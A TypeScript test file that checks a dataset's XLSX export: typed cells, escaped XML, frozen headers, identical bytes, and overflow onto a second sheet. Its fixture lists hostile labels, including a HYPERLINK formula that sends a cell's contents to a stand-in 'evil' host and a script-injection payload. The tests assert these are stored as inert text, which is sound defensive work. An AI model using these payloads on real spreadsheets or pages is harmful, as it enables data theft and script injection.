/**
 * The XLSX download of a dataset, unzipped and read back as a spreadsheet
 * reads it: typed cells, text that can never run, and the same bytes each time.
 */
import { describe, expect, it } from 'vitest';
import type { CellValue } from '../../../../src/lib/data/columns.ts';
import { datasetXlsx } from '../../../../src/lib/data/downloads/dataset-xlsx.ts';
import { makeDataset } from '../../aggregate/make-dataset.ts';
import { type ReadSheet, readXlsx } from './read-xlsx.ts';
import { readZip } from './read-zip.ts';

/** Labels from a hostile spreadsheet, and what a cell must hold for each. */
const LABELS: [written: string, read: string, quoted: boolean][] = [
  ['=HYPERLINK("http://evil/?"&A1,"Click")', '=HYPERLINK("http://evil/?"&A1,"Click")', true],
  ['@SUM(A1:A9)', '@SUM(A1:A9)', true],
  ['+1', '+1', true],
  ['-2', '-2', true],
  ['</script><script>alert(1)</script>', '</script><script>alert(1)</script>', false],
  ['&<>"', '&<>"', false],
  ['right\u202Eleft', 'right\u202Eleft', false],
  ['nul\u0000byte\u0007', 'nulbyte', false],
  ['_x0041_ stays as written', '_x0041_ stays as written', false],
  ['line one\r\nline two\ttab', 'line one\r\nline two\ttab', false],
  ['lone \uD800 surrogate', 'lone \uFFFD surrogate', false],
  ['x'.repeat(40_000), `${'x'.repeat(32_766)}…`, false],
];

const dataset = makeDataset(
  'creators',
  [
    { name: 'year', type: 'year' },
    { name: 'tier', type: 'category' },
    { name: 'engagement_rate', type: 'percent', decimals: 2 },
    { name: 'share', type: 'fraction', decimals: 1 },
    { name: 'fee', type: 'currency', unit: 'USD' },
    { name: 'published', type: 'date' },
    { name: 'month', type: 'date' },
    { name: 'basis', type: 'category' },
    { name: 'label', type: 'category', label: 'Label from the sheet' },
  ],
  LABELS.map(([label], index): CellValue[] => [
    2020 + (index % 3),
    index % 2 === 0 ? 'micro' : 'mega',
    index === 2 ? null : 2.4 + index / 100,
    0.024,
    1200 * (index + 1),
    index === 2 ? null : `2024-04-${String(index + 5).padStart(2, '0')}`,
    '2024-04',
    'reported',
    label,
  ]),
  {
    meta: {
      title: 'Creator engagement & fees',
      description: 'A small dataset with <markup> & quotes "here".',
      licence: 'CC BY 4.0',
      notes: ['Fees are for one sponsored post.', '=1+1 is a note, not a formula.'],
      sources: [
        {
          id: 'survey',
          title: 'Creator survey',
          publisher: 'Example Research',
          year: 2024,
          url: 'https://example.com/s?a=1&b=2',
        },
        { id: 'other', title: 'Another study' },
      ],
      columns: { fee: { description: 'Per post, before agency fees.' } },
    },
  },
);

/** A sheet's rows as lists of values, the empty cells of a row as empty strings. */
function rowsOf(sheet: ReadSheet): string[][] {
  const rows: string[][] = [];
  for (const [ref, cell] of sheet.cells) {
    const [, letters, number] = /^([A-Z]+)(\d+)$/.exec(ref)!;
    const row = (rows[Number(number) - 1] ??= []);
    row[letters!.charCodeAt(0) - 65] = String(cell.value);
  }
  return Array.from(rows, (row = []) => Array.from(row, (value = '') => value));
}

describe('the XLSX download of a dataset', () => {
  it('has a Data sheet and a Sources sheet, and nothing dated', async () => {
    const { files, sheets } = readXlsx(await datasetXlsx(dataset));
    expect(sheets.map((sheet) => sheet.name)).toEqual(['Data', 'Sources']);
    expect([...files.keys()]).toEqual([
      '[Content_Types].xml',
      '_rels/.rels',
      'xl/workbook.xml',
      'xl/_rels/workbook.xml.rels',
      'xl/worksheets/sheet1.xml',
      'xl/worksheets/sheet2.xml',
      'xl/styles.xml',
      'xl/sharedStrings.xml',
    ]);
    for (const [name, text] of files) expect(text, name).not.toMatch(/dcterms|created|modified|\b20\d\d-\d\d-\d\dT/i);
  });

  it('heads each column with its label and unit, in bold, and keeps the header in view', async () => {
    const [data] = readXlsx(await datasetXlsx(dataset)).sheets;
    const header = ['A1', 'B1', 'C1', 'D1', 'E1', 'F1', 'G1', 'H1', 'I1'].map((ref) => data!.cells.get(ref));
    expect(header.map((cell) => cell?.value)).toEqual([
      'Year',
      'Tier',
      'Engagement rate (%)',
      'Share',
      'Fee (USD)',
      'Published',
      'Month',
      'Basis',
      'Label from the sheet',
    ]);
    expect(header.every((cell) => cell?.bold && cell.type === 's')).toBe(true);
    expect(data!.xml).toContain('<pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" state="frozen"/>');
  });

  it('writes numbers as numeric cells at the data’s precision, percent values as written, days as Excel dates', async () => {
    const [data] = readXlsx(await datasetXlsx(dataset)).sheets;
    const cell = (ref: string) => data!.cells.get(ref);
    expect(cell('A2')).toEqual({ type: 'n', value: 2020, format: '0', bold: false, quoted: false });
    expect(cell('C2')).toEqual({ type: 'n', value: 2.4, format: '#,##0.00', bold: false, quoted: false });
    // A fraction is a share of 1: Excel's percent format shows 0.024 as 2.4%.
    expect(cell('D2')).toEqual({ type: 'n', value: 0.024, format: '0.0%', bold: false, quoted: false });
    expect(cell('E2')).toEqual({ type: 'n', value: 1200, format: '#,##0', bold: false, quoted: false });
    // 2024-04-05 is day 45,387 of Excel's calendar.
    expect(cell('F2')).toEqual({ type: 'n', value: 45_387, format: 'yyyy-mm-dd', bold: false, quoted: false });
    // A month has no single day: it stays text, as written.
    expect(cell('G2')).toEqual({ type: 's', value: '2024-04', format: 'General', bold: false, quoted: false });
    expect(data!.xml).toContain('<c r="C2" s="3" t="n"><v>2.4</v></c>');
  });

  it('leaves a missing value an empty cell', async () => {
    const [data] = readXlsx(await datasetXlsx(dataset)).sheets;
    expect(data!.cells.has('C4')).toBe(false);
    expect(data!.cells.has('F4')).toBe(false);
    expect(data!.cells.get('D4')?.value).toBe(0.024);
    expect(data!.rows).toEqual(Array.from({ length: LABELS.length + 1 }, (_, index) => index + 1));
  });

  it('stores every label as text that never runs: no formula anywhere, a quote prefix on formula-like text, XML escaped', async () => {
    const { files, sheets } = readXlsx(await datasetXlsx(dataset));
    const [data] = sheets;
    expect(LABELS).toHaveLength(12);
    LABELS.forEach(([written, read, quoted], index) => {
      const cell = data!.cells.get(`I${index + 2}`);
      expect(cell, JSON.stringify(written.slice(0, 40))).toEqual({
        type: 's',
        value: read,
        format: 'General',
        bold: false,
        quoted,
      });
    });
    for (const [name, text] of files) {
      expect(text, name).not.toMatch(/<f[ >]|<is>|t="str"|t="inlineStr"/);
      expect(text, name).not.toMatch(/[\u0000-\u0008\u000B\u000C\u000E-\u001F]/);
    }
    const strings = files.get('xl/sharedStrings.xml')!;
    expect(strings).toContain('&lt;/script&gt;&lt;script&gt;alert(1)&lt;/script&gt;');
    expect(strings).not.toContain('</script>');
    expect(strings).toContain('&amp;&lt;&gt;&quot;');
    expect(strings).toContain('line one&#13;\nline two\ttab');
    expect(strings).toContain('_x005F_x0041_ stays as written');
  });

  it('lists the title, sources, licence, notes and every column on the Sources sheet', async () => {
    const sources = readXlsx(await datasetXlsx(dataset)).sheets[1]!;
    expect(rowsOf(sources)).toEqual([
      ['Dataset', 'Creator engagement & fees'],
      ['Name', 'creators'],
      ['Description', 'A small dataset with <markup> & quotes "here".'],
      ['Licence', 'CC BY 4.0'],
      [],
      ['Sources'],
      ['Title', 'Publisher', 'Year', 'Address'],
      ['Creator survey', 'Example Research', '2024', 'https://example.com/s?a=1&b=2'],
      ['Another study'],
      [],
      ['Notes'],
      ['Fees are for one sponsored post.'],
      ['=1+1 is a note, not a formula.'],
      [],
      ['Columns'],
      ['The Data sheet heads each column with its label and unit; the CSV and Parquet downloads use its name.'],
      ['Name', 'Label', 'Type', 'Unit', 'Description'],
      ['year', 'Year', 'Year'],
      ['tier', 'Tier', 'Text'],
      ['engagement_rate', 'Engagement rate', 'Percent (2.4 means 2.4%)', '%'],
      ['share', 'Share', 'Fraction (0.024 means 2.4%)'],
      ['fee', 'Fee', 'Currency', 'USD', 'Per post, before agency fees.'],
      ['published', 'Published', 'Date'],
      ['month', 'Month', 'Date (as text)'],
      ['basis', 'Basis', 'Text'],
      ['label', 'Label from the sheet', 'Text'],
    ]);
    expect(sources.cells.get('B8')?.type).toBe('s');
    expect(sources.cells.get('C8')).toMatchObject({ type: 'n', value: 2024 });
    expect(sources.cells.get('A13')).toMatchObject({ type: 's', quoted: true });
  });

  it('states the site’s licence for a dataset without one, and says so when there is none', async () => {
    const bare = makeDataset('bare', [{ name: 'value', type: 'number' }], [[1]]);
    const licence = async (options?: { licence?: string }) =>
      readXlsx(await datasetXlsx(bare, options)).sheets[1]!.cells.get('B3')?.value;
    expect(await licence({ licence: 'CC BY 4.0 (the site’s)' })).toBe('CC BY 4.0 (the site’s)');
    expect(await licence()).toBe('Not stated (ask before reusing)');
  });

  it('writes days before 1 March 1900, which Excel’s calendar gets wrong, as text', async () => {
    const old = makeDataset('old', [{ name: 'day', type: 'date' }], [['1899-12-31'], ['2024-04-05']]);
    const { sheets } = readXlsx(await datasetXlsx(old));
    expect(['A2', 'A3'].map((ref) => sheets[0]!.cells.get(ref))).toMatchObject([
      { type: 's', value: '1899-12-31' },
      { type: 's', value: '2024-04-05' },
    ]);
    expect(rowsOf(sheets[1]!).at(-1)).toEqual(['day', 'Day', 'Date (as text)']);
  });

  it('gives the same bytes every time, every entry dated 1980-01-01 00:00 in both of its headers', async () => {
    const first = Buffer.from(await datasetXlsx(dataset));
    const second = Buffer.from(await datasetXlsx(dataset));
    expect(second.equals(first)).toBe(true);
    const entries = readZip(first);
    expect(entries).toHaveLength(8);
    for (const entry of entries) {
      expect(entry.local, entry.name).toEqual({ time: 0, date: 0x21 });
      expect(entry.central, entry.name).toEqual({ time: 0, date: 0x21 });
    }
  });

  it('refuses a number column holding text, or a number a spreadsheet cannot store, naming where', async () => {
    const text = makeDataset('mixed', [{ name: 'value', type: 'number' }], [[1], ['many']]);
    await expect(datasetXlsx(text)).rejects.toThrow(
      'xlsx: mixed, row 2: column "value" holds the text "many" where a number belongs',
    );
    const infinite = makeDataset('infinite', [{ name: 'value', type: 'number' }], [[1], [Infinity]]);
    await expect(datasetXlsx(infinite)).rejects.toThrow(
      'xlsx: the cell Data!A3 holds Infinity, which a spreadsheet cannot store',
    );
  });

  it('continues past Excel’s 1,048,576 rows on a second sheet, with the header again', async () => {
    const long = makeDataset('long', [{ name: 'n', type: 'number' }], []);
    long.rows = Array.from({ length: 1_048_576 }, (_, index) => ({ n: index }));
    // A million rows are read as text: a cell map of them would take longer than writing them.
    const files = new Map(readZip(await datasetXlsx(long)).map((entry) => [entry.name, entry.data.toString('utf8')]));
    expect([...files.get('xl/workbook.xml')!.matchAll(/<sheet name="([^"]*)"/g)].map((match) => match[1])).toEqual([
      'Data',
      'Data 2',
      'Sources',
    ]);
    const first = files.get('xl/worksheets/sheet1.xml')!;
    const second = files.get('xl/worksheets/sheet2.xml')!;
    expect(first.match(/<row /g)).toHaveLength(1_048_576);
    expect(first).toContain(
      '<row r="1"><c r="A1" s="1" t="s"><v>0</v></c></row><row r="2"><c r="A2" s="2" t="n"><v>0</v></c></row>',
    );
    expect(first).toContain('<row r="1048576"><c r="A1048576" s="2" t="n"><v>1048574</v></c></row></sheetData>');
    expect(second).toContain(
      '<sheetData><row r="1"><c r="A1" s="1" t="s"><v>0</v></c></row><row r="2"><c r="A2" s="2" t="n"><v>1048575</v></c></row></sheetData>',
    );
  });
});
